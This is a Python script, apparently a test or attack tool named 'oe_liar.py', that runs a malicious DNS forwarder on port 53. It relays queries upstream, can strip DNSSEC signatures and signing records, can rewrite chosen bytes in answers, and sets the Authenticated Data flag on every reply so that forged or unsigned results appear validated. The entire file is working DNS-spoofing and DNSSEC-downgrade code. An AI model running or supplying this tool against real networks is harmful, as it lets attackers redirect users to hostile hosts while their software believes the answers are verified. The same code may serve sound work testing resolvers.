#!/usr/bin/env python3
# oe_liar.py - a resolver that lies: it changes records, or keeps signatures back, and vouches for what it says
import argparse
import select
import socket
import struct

RRSIG, DNSKEY, DS, NSEC, NSEC3 = 46, 48, 43, 47, 50
AD, DO = 0x0020, 0x8000


def question(msg):
    """(end of the question, its type)"""
    at = 12
    while msg[at]:
        at += 1 + msg[at]
    return at + 5, struct.unpack(">H", msg[at + 1:at + 3])[0]


def without_do(msg):
    """The question asked as somebody asks who knows no DNSSEC."""
    end, _ = question(msg)
    opt = msg.find(b"\0\0\x29", end)
    if opt < 0:
        return msg
    flags = struct.unpack(">H", msg[opt + 7:opt + 9])[0] & ~DO
    return msg[:opt + 7] + struct.pack(">H", flags) + msg[opt + 9:]


def vouched(msg):
    flags = struct.unpack(">H", msg[2:4])[0] | AD
    return msg[:2] + struct.pack(">H", flags) + msg[4:]


def empty(msg):
    end, _ = question(msg)
    return msg[:2] + b"\x81\x80" + b"\0\1\0\0\0\0\0\0" + msg[12:end]


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--listen", required=True)
    p.add_argument("--server", required=True)
    p.add_argument("--strip", action="store_true")
    p.add_argument("--forge", nargs=3, action="append", default=[],
                   metavar=("LABEL", "OLD", "NEW"))
    a = p.parse_args()
    front = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    front.bind((a.listen, 53))
    # Who asks again by TCP goes elsewhere: this one has no room for it.
    asked = {}
    while True:
        for s in select.select([front, *asked], [], [])[0]:
            msg, peer = s.recvfrom(65535)
            if len(msg) < 17:
                continue
            end, kind = question(msg)
            if s is front:
                if a.strip and kind in (RRSIG, DNSKEY, DS, NSEC, NSEC3):
                    front.sendto(vouched(empty(msg)), peer)
                    continue
                back = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                back.sendto(without_do(msg) if a.strip else msg,
                            (a.server, 53))
                asked[back] = peer
                continue
            for label, old, new in a.forge:
                if msg[12:13 + len(label)] == bytes([len(label)]) + \
                        label.encode():
                    msg = msg[:end] + msg[end:].replace(old.encode(),
                                                        new.encode())
            front.sendto(vouched(msg), asked.pop(s))
            s.close()


if __name__ == "__main__":
    main()
